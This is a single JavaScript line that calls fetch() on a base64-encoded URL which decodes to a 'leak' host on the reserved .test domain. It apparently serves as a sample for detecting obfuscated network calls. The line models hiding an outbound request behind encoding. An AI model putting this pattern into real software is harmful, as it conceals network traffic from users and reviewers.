fetch(atob("aHR0cHM6Ly9qcy1mb2xkLWF0b2IubGVhay50ZXN0Lw=="))
